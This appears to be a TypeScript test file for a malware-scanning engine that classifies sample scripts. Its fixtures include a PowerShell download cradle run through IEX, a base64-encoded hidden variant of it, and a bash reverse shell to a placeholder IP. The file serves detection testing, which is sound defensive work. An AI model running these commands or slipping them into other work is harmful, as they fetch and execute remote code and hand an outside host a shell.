/** Assay-Script verdicts on the script analyzer's real output for scripts written in the test, plus the engine contract. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { FileInput } from '../../core/plugin.js';
import { runEngineContract, tempFile } from '../contract.case.test.js';
import { analyzeScriptText, scriptAttribute } from '../../analyzers/script/script-analyzer.js';
import { createAssayScriptEngine } from './assay-script-engine.js';

/** A script as the pipeline gives it to the engine: the script analyzer's real attribute for `text`. */
async function script(text: string, name: string, typeTag: string): Promise<FileInput> {
  const input = await tempFile(name, text);
  const analysis = { ...analyzeScriptText(text, typeTag, [name]), bytesRead: text.length };
  return { ...input, names: [name], typeTag, attributes: { type_tag: typeTag, assay_script: scriptAttribute(analysis, text.length) } };
}

const engine = createAssayScriptEngine();
await engine.start();
const scan = (input: FileInput) => engine.scan(input, AbortSignal.timeout(30_000));

runEngineContract('Assay-Script', createAssayScriptEngine, { benign: await script('#!/bin/sh\necho hello\n', 'hello.sh', 'shell') });

describe('Assay-Script verdicts', () => {
  it('a PowerShell download cradle piped into IEX is malicious (Downloader)', async () => {
    const v = await scan(await script("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", 'a.ps1', 'powershell'));
    assert.deepEqual([v.category, v.result], ['malicious', 'Assay.Script.Downloader']);
  });

  it('the same cradle hidden under -EncodedCommand is malicious', async () => {
    const inner = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'utf16le').toString('base64');
    const v = await scan(await script(`powershell.exe -nop -w hidden -enc ${inner}`, 'run.bat', 'batch'));
    assert.equal(v.category, 'malicious');
  });

  it('a bash reverse shell is malicious', async () => {
    const v = await scan(await script('#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n', 'x.sh', 'shell'));
    assert.deepEqual([v.category, v.result], ['malicious', 'Assay.Script.ReverseShell']);
  });

  it('a Debian maintainer script (systemctl enable, cron) is undetected', async () => {
    const v = await scan(await script('#!/bin/sh\nset -e\nsystemctl enable foo.service\ncp foo /etc/cron.daily/foo\n', 'postinst', 'shell'));
    assert.equal(v.category, 'undetected');
  });

  it('a file without the script attribute is undetected', async () => {
    const input = await tempFile('notes.txt', 'plain words');
    assert.equal((await scan({ ...input, typeTag: 'text', attributes: { assay_script: 'garbage' } })).category, 'undetected');
  });
});
